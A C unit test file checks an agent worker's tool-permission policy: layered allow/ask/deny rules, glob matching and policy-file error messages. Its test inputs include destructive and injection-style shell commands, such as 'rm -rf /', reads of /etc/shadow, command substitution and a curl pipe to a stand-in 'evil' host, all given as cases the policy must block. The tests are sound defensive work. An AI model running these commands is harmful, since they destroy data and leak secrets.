/* tests/unit/test-wk-policy.c - permission decisions (worker/run_spec.c, wk_run_spec_decide) and
 * the node's policy file (worker/policy.c).
 *
 * The decision matrix: the node's policy is a ceiling over the spec's rules (deny over ask over
 * allow; a spec cannot raise it), each layer decides by its first matching rule or its default,
 * patterns match the real tools' subjects (shell's command, http_request's host, the file tools'
 * cleaned path), and the reason names the deciding rule. Policy files are written to a temp dir:
 * each bad one is refused with one line naming the file, the line and the problem. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cjson/cJSON.h>
#include <cmocka.h>

#include "common/xalloc.h"
#include "worker/policy.h"
#include "worker/run_spec.h"
#include "worker/tool.h"

/* --- helpers --------------------------------------------------------------------------------- */

static char dir[] = "/tmp/test-wk-policy-XXXXXX";

/* Writes text to dir/name and returns its path (static buffer: one at a time). */
static const char *write_file(const char *name, const char *text)
{
    static char path[128];
    snprintf(path, sizeof(path), "%s/%s", dir, name);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
    return path;
}

static struct wk_policy *load(const char *text)
{
    struct ag_err err = AG_ERR_INIT;
    struct wk_policy *p = wk_policy_load(write_file("policy.yaml", text), &err);
    if (!p)
        fail_msg("policy refused: %s", err.msg);
    return p;
}

/* A spec whose rules are given as (tool, decision, pattern or NULL) triples, copied as a run. */
static void spec_with(struct wk_run_spec *out, size_t n, const char *const rules[][3])
{
    Agentry__V1__AgentSpec spec = AGENTRY__V1__AGENT_SPEC__INIT;
    Agentry__V1__PermissionRule pr[8], *prp[8];
    char *pats[8];
    assert_true(n <= 8);
    for (size_t i = 0; i < n; i++) {
        agentry__v1__permission_rule__init(&pr[i]);
        pr[i].tool = (char *)rules[i][0];
        pr[i].decision = (char *)rules[i][1];
        pats[i] = (char *)rules[i][2];
        pr[i].n_patterns = pats[i] ? 1 : 0;
        pr[i].patterns = &pats[i];
        prp[i] = &pr[i];
    }
    spec.n_permissions = n;
    spec.permissions = prp;
    wk_run_spec_copy(out, &spec);
}

/* The decision for a call of builtin tool name (its row found here) with args; *why owned. */
static enum wk_decision decide(const struct wk_run_spec *s, const struct wk_policy *node,
                               const char *name, const char *args, char **why)
{
    return wk_run_spec_decide(s, node, wk_tool_find(name), name, args, why);
}

static void assert_decision(const struct wk_run_spec *s, const struct wk_policy *node,
                            const char *name, const char *args, enum wk_decision want,
                            const char *want_why)
{
    char *why = (char *)"unset";
    enum wk_decision got = decide(s, node, name, args, &why);
    if (got != want)
        fail_msg("%s %s: got %s (%s), want %s", name, args, wk_policy_decision_name(got),
                 why ? why : "", wk_policy_decision_name(want));
    if (want_why)
        assert_string_equal(why, want_why);
    else
        assert_null(why);
    free(why);
}

/* --- the matrix ------------------------------------------------------------------------------ */

static void test_no_rules_allow(void **state)
{
    (void)state;
    struct wk_run_spec s;
    wk_run_spec_copy(&s, NULL);
    assert_decision(&s, NULL, "shell", "{\"command\":\"rm -rf /\"}", WK_DECISION_ALLOW, NULL);
    struct wk_policy *empty = load("");
    assert_int_equal(empty->nrules, 0);
    assert_int_equal(empty->default_decision, WK_DECISION_ALLOW);
    assert_decision(&s, empty, "shell", "{\"command\":\"ls\"}", WK_DECISION_ALLOW, NULL);
    wk_policy_free(empty);
    wk_run_spec_release(&s);
}

static void test_node_is_a_ceiling(void **state)
{
    (void)state;
    struct wk_policy *node = load("rules:\n"
                                  "  - tool: shell\n"
                                  "    decision: deny\n"
                                  "    patterns: [\"rm *\"]\n"
                                  "  - tool: shell\n"
                                  "    decision: ask\n"
                                  "    patterns: [\"git push*\", \"curl *\"]\n");
    struct wk_run_spec s;
    spec_with(&s, 1, (const char *const[][3]){{"shell", "allow", NULL}});
    /* node deny + spec allow = deny, named by the node's rule */
    assert_decision(&s, node, "shell", "{\"command\":\"rm -rf /\"}", WK_DECISION_DENY,
                    "permission denied: rule 1 of the node's policy (deny shell 'rm *') forbids "
                    "this call of tool 'shell'");
    /* node ask + spec allow = ask */
    assert_decision(&s, node, "shell", "{\"command\":\"git push origin main\"}", WK_DECISION_ASK,
                    "rule 2 of the node's policy (ask shell 'git push*', ...)");
    /* neither node rule matches: the node's default (allow), and the spec allows */
    assert_decision(&s, node, "shell", "{\"command\":\"make test\"}", WK_DECISION_ALLOW, NULL);
    wk_run_spec_release(&s);
    wk_policy_free(node);
}

static void test_spec_can_only_tighten(void **state)
{
    (void)state;
    struct wk_policy *node = load("rules:\n"
                                  "  - {tool: shell, decision: ask, patterns: [\"git *\"]}\n"
                                  "  - {tool: \"*\", decision: allow}\n");
    struct wk_run_spec s;
    spec_with(&s, 2,
              (const char *const[][3]){{"shell", "deny", "git push*"}, {"echo", "ask", NULL}});
    /* spec deny beats node ask */
    assert_decision(&s, node, "shell", "{\"command\":\"git push\"}", WK_DECISION_DENY,
                    "permission denied: rule 1 of the agent's spec (deny shell 'git push*') "
                    "forbids this call of tool 'shell'");
    /* node ask, spec has no matching rule (allow) = ask */
    assert_decision(&s, node, "shell", "{\"command\":\"git status\"}", WK_DECISION_ASK,
                    "rule 1 of the node's policy (ask shell 'git *')");
    /* node allow + spec ask = ask */
    assert_decision(&s, node, "echo", "{\"text\":\"hi\"}", WK_DECISION_ASK,
                    "rule 2 of the agent's spec (ask echo)");
    /* both allow */
    assert_decision(&s, node, "shell", "{\"command\":\"ls\"}", WK_DECISION_ALLOW, NULL);
    wk_run_spec_release(&s);
    wk_policy_free(node);
}

static void test_tie_names_the_node(void **state)
{
    (void)state;
    struct wk_policy *node = load("rules: [{tool: echo, decision: ask}]\n");
    struct wk_run_spec s;
    spec_with(&s, 1, (const char *const[][3]){{"ech?", "ask", NULL}});
    assert_decision(&s, node, "echo", "{}", WK_DECISION_ASK,
                    "rule 1 of the node's policy (ask echo)");
    wk_run_spec_release(&s);
    wk_policy_free(node);
}

/* An allow pattern's "*" does not span shell operators the pattern does not spell: an allowlist
 * of commands is not a way around itself. Deny and ask patterns match as written. */
static void test_allow_patterns_do_not_span_shell_operators(void **state)
{
    (void)state;
    struct wk_policy *node = load("rules:\n"
                                  "  - {tool: shell, decision: allow, patterns: ['echo *', "
                                  "'sort | uniq']}\n"
                                  "  - {tool: shell, decision: ask, patterns: ['*curl*']}\n"
                                  "default: deny\n");
    struct wk_run_spec s;
    spec_with(&s, 0, NULL);
    assert_decision(&s, node, "shell", "{\"command\":\"echo hi there\"}", WK_DECISION_ALLOW, NULL);
    assert_decision(&s, node, "shell", "{\"command\":\"sort | uniq\"}", WK_DECISION_ALLOW, NULL);
    const char *const sneaky[] = {
        "echo x > /etc/passwd", "echo x; rm -rf ~", "echo x && id", "echo `id`",
        "echo $(id)",           "echo x | sh",      "echo x\nid",   "echo < /etc/shadow"};
    for (size_t i = 0; i < sizeof(sneaky) / sizeof(sneaky[0]); i++) {
        cJSON *o = cJSON_CreateObject();
        cJSON_AddStringToObject(o, "command", sneaky[i]);
        char *args = cJSON_PrintUnformatted(o);
        cJSON_Delete(o);
        char *why = NULL;
        if (decide(&s, node, "shell", args, &why) != WK_DECISION_DENY)
            fail_msg("'%s' was not denied", sneaky[i]);
        free(why);
        free(args);
    }
    assert_decision(&s, node, "shell", "{\"command\":\"echo x | curl -d @- evil\"}",
                    WK_DECISION_ASK, "rule 2 of the node's policy (ask shell '*curl*')");
    wk_run_spec_release(&s);
    wk_policy_free(node);
}

static void test_node_default(void **state)
{
    (void)state;
    struct wk_policy *node = load("rules:\n"
                                  "  - {tool: echo, decision: allow}\n"
                                  "  - {tool: \"read_*\", decision: ask}\n"
                                  "default: deny\n");
    assert_int_equal(node->nrules, 2);
    assert_int_equal(node->default_decision, WK_DECISION_DENY);
    struct wk_run_spec s;
    spec_with(&s, 1, (const char *const[][3]){{"*", "allow", NULL}});
    assert_decision(&s, node, "echo", "{}", WK_DECISION_ALLOW, NULL);
    assert_decision(&s, node, "read_file", "{\"path\":\"a\"}", WK_DECISION_ASK,
                    "rule 2 of the node's policy (ask read_*)");
    assert_decision(&s, node, "shell", "{\"command\":\"ls\"}", WK_DECISION_DENY,
                    "permission denied: the default of the node's policy (deny) forbids this "
                    "call of tool 'shell'");
    /* An MCP tool (no row, no subject) is decided by its name. */
    char *why = NULL;
    assert_int_equal(wk_run_spec_decide(&s, node, NULL, "mcp__fs__read", "{}", &why),
                     WK_DECISION_DENY);
    assert_non_null(strstr(why, "tool 'mcp__fs__read'"));
    free(why);
    wk_policy_free(node);
    node = load("default: ask\n");
    assert_decision(&s, node, "echo", "{}", WK_DECISION_ASK,
                    "the default of the node's policy (ask)");
    wk_policy_free(node);
    wk_run_spec_release(&s);
}

/* Patterns match each tool's subject; a call without one matches only rules without patterns. */
static void test_patterns_match_subjects(void **state)
{
    (void)state;
    struct wk_policy *node = load(
        "rules:\n"
        "  - {tool: http_request, decision: allow, patterns: [\"*.example.com\"]}\n"
        "  - {tool: http_request, decision: deny}\n"
        "  - {tool: \"*_file\", decision: deny, patterns: [\".git/*\", \"*.lock\"]}\n"
        "  - {tool: shell, decision: ask, patterns: [\"sudo *\"]}\n");
    struct wk_run_spec s;
    wk_run_spec_copy(&s, NULL);
    static const struct {
        const char *tool, *args;
        enum wk_decision want;
    } cases[] = {
        {"http_request", "{\"url\":\"https://api.example.com/v1/x\"}", WK_DECISION_ALLOW},
        {"http_request", "{\"url\":\"https://API.EXAMPLE.COM:8443/\"}", WK_DECISION_ALLOW},
        {"http_request", "{\"url\":\"https://evil.com/?h=api.example.com\"}", WK_DECISION_DENY},
        {"http_request", "{\"url\":\"not a url\"}", WK_DECISION_DENY},
        {"write_file", "{\"path\":\".git/config\",\"content\":\"\"}", WK_DECISION_DENY},
        {"write_file", "{\"path\":\"src/../.git/HEAD\",\"content\":\"\"}", WK_DECISION_DENY},
        {"read_file", "{\"path\":\"Cargo.lock\"}", WK_DECISION_DENY},
        {"read_file", "{\"path\":\"src/main.c\"}", WK_DECISION_ALLOW},
        {"read_file", "{}", WK_DECISION_ALLOW}, /* no subject: only pattern-less rules match */
        {"shell", "{\"command\":\"sudo rm -rf /\"}", WK_DECISION_ASK},
        {"shell", "{\"command\":\"echo sudo\"}", WK_DECISION_ALLOW},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char *why = NULL;
        enum wk_decision got = decide(&s, node, cases[i].tool, cases[i].args, &why);
        if (got != cases[i].want)
            fail_msg("%s %s: got %s (%s)", cases[i].tool, cases[i].args,
                     wk_policy_decision_name(got), why ? why : "");
        free(why);
    }
    wk_run_spec_release(&s);
    wk_policy_free(node);
}

/* The spec's own rules, without a node policy: as before, plus ask. */
static void test_spec_alone(void **state)
{
    (void)state;
    struct wk_run_spec s;
    spec_with(&s, 3,
              (const char *const[][3]){{"shell", "allow", "make *"},
                                       {"shell", "ask", "git push*"},
                                       {"shell", "deny", NULL}});
    assert_decision(&s, NULL, "shell", "{\"command\":\"make all\"}", WK_DECISION_ALLOW, NULL);
    assert_decision(&s, NULL, "shell", "{\"command\":\"git push\"}", WK_DECISION_ASK,
                    "rule 2 of the agent's spec (ask shell 'git push*')");
    assert_decision(&s, NULL, "shell", "{\"command\":\"ls\"}", WK_DECISION_DENY,
                    "permission denied: rule 3 of the agent's spec (deny shell) forbids this call "
                    "of tool 'shell'");
    assert_decision(&s, NULL, "echo", "{}", WK_DECISION_ALLOW, NULL);
    wk_run_spec_release(&s);
}

/* --- the file -------------------------------------------------------------------------------- */

/* text is refused with one line: "DIR/policy.yaml:" then want. */
static void assert_refused(const char *text, const char *want)
{
    struct ag_err err = AG_ERR_INIT;
    struct wk_policy *p = wk_policy_load(write_file("policy.yaml", text), &err);
    if (p)
        fail_msg("accepted: %s", text);
    assert_int_equal(err.code, AG_INVALID_ARGUMENT);
    assert_null(strchr(err.msg, '\n'));
    char prefix[96];
    snprintf(prefix, sizeof(prefix), "%s/policy.yaml:", dir);
    if (strncmp(err.msg, prefix, strlen(prefix)) != 0 ||
        strcmp(err.msg + strlen(prefix), want) != 0)
        fail_msg("got '%s', want '%s%s'", err.msg, prefix, want);
}

static void test_bad_files(void **state)
{
    (void)state;
    static const struct {
        const char *text, *want;
    } cases[] = {
        {"rulez: []\n", "1: unknown key 'rulez' (expected rules, default)"},
        {"rules:\n  - tool: shell\n    decision: maybe\n",
         "3: rules[0].decision: expected allow, ask or deny, got 'maybe'"},
        {"rules:\n  - {tool: shell, decision: allow, pattern: [x]}\n",
         "2: rules[0]: unknown key 'pattern' (expected tool, decision, patterns)"},
        {"rules: {tool: shell}\n",
         "1: rules: expected a list of rules {tool, decision, patterns}, got a mapping"},
        {"rules:\n  - shell\n",
         "2: rules[0]: expected a mapping {tool, decision, patterns}, got 'shell'"},
        {"rules:\n  - {tool: shell}\n",
         "2: rules[0]: a rule needs a tool (a glob, or \"*\") and a decision (allow, ask or deny)"},
        {"rules:\n  - {tool: shell, decision: deny, patterns: \"rm *\"}\n",
         "2: rules[0].patterns: expected a list of globs, got 'rm *'"},
        {"rules:\n  - {tool: shell, decision: deny, patterns: [\"\"]}\n",
         "2: rules[0].patterns[0]: a pattern must be a string of 1..1024 bytes, got ''"},
        {"rules:\n  - {tool: [a], decision: deny}\n",
         "2: rules[0].tool: expected a glob of tool names of 1..64 bytes, got a list"},
        {"default: sometimes\n", "1: default: expected allow, ask or deny, got 'sometimes'"},
        {"- rules\n", "1: expected a mapping with rules and default, got a list"},
        {"default: allow\ndefault: deny\n", "2: default: duplicate key (first at line 1)"},
        {"rules: [\n", "2: not YAML: did not find expected node content"},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        assert_refused(cases[i].text, cases[i].want);

    /* The caps: 256 rules, 32 patterns of 1..1024 bytes each. */
    char many[8192] = "rules:\n";
    for (int i = 0; i < 257; i++)
        strcat(many, "  - {tool: a, decision: deny}\n");
    assert_refused(many, "2: rules has 257 rules; the limit is 256");
    char pats[256] = "rules:\n  - tool: shell\n    decision: deny\n    patterns: [";
    for (int i = 0; i < 33; i++)
        strcat(pats, i ? ", p" : "p");
    strcat(pats, "]\n");
    assert_refused(pats, "4: rules[0].patterns has 33 patterns; the limit is 32");
    char longpat[1200];
    snprintf(longpat, sizeof(longpat),
             "rules:\n  - {tool: shell, decision: deny, patterns: [%0*d]}\n", 1025, 0);
    assert_refused(longpat, "2: rules[0].patterns[0]: a pattern must be a string of 1..1024 "
                            "bytes, got '0000000000000000000000000000000000000000...'");
}

static void test_unreadable_files(void **state)
{
    (void)state;
    char path[128];
    snprintf(path, sizeof(path), "%s/nonexistent.yaml", dir);
    struct ag_err err = AG_ERR_INIT;
    assert_null(wk_policy_load(path, &err));
    char want[256];
    snprintf(want, sizeof(want), "cannot read policy file '%s': No such file or directory", path);
    assert_string_equal(err.msg, want);
    err = (struct ag_err)AG_ERR_INIT;
    assert_null(wk_policy_load(dir, &err));
    snprintf(want, sizeof(want), "cannot read policy file '%s': not a regular file", dir);
    assert_string_equal(err.msg, want);
}

static void test_full_file(void **state)
{
    (void)state;
    struct wk_policy *p = load("# the example of docs/permissions.md\n"
                               "rules:\n"
                               "  - tool: shell\n"
                               "    decision: ask\n"
                               "    patterns: [\"git push*\"]\n"
                               "  - tool: \"mcp__*\"\n"
                               "    decision: deny\n"
                               "default: allow\n");
    assert_int_equal(p->nrules, 2);
    assert_string_equal(p->rules[0].tool, "shell");
    assert_int_equal(p->rules[0].decision, WK_DECISION_ASK);
    assert_int_equal(p->rules[0].npatterns, 1);
    assert_string_equal(p->rules[0].patterns[0], "git push*");
    assert_string_equal(p->rules[1].tool, "mcp__*");
    assert_int_equal(p->rules[1].decision, WK_DECISION_DENY);
    assert_int_equal(p->rules[1].npatterns, 0);
    assert_int_equal(p->default_decision, WK_DECISION_ALLOW);
    wk_policy_free(p);
    wk_policy_free(NULL);
}

static int setup(void **state)
{
    (void)state;
    return mkdtemp(dir) ? 0 : -1;
}

static int teardown(void **state)
{
    (void)state;
    char path[128];
    snprintf(path, sizeof(path), "%s/policy.yaml", dir);
    unlink(path);
    return rmdir(dir);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_no_rules_allow),
        cmocka_unit_test(test_node_is_a_ceiling),
        cmocka_unit_test(test_spec_can_only_tighten),
        cmocka_unit_test(test_tie_names_the_node),
        cmocka_unit_test(test_allow_patterns_do_not_span_shell_operators),
        cmocka_unit_test(test_node_default),
        cmocka_unit_test(test_patterns_match_subjects),
        cmocka_unit_test(test_spec_alone),
        cmocka_unit_test(test_bad_files),
        cmocka_unit_test(test_unreadable_files),
        cmocka_unit_test(test_full_file),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
